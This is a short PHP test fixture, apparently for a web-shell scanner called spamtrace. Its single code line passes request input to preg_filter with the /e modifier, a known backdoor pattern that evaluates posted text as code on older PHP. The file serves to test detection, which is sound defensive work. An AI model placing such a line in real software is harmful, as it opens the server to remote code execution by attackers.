<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// preg_filter() evaluates an /e replacement as preg_replace() does: the posted text runs
preg_filter('|\d|e', $_REQUEST['x'], '2');
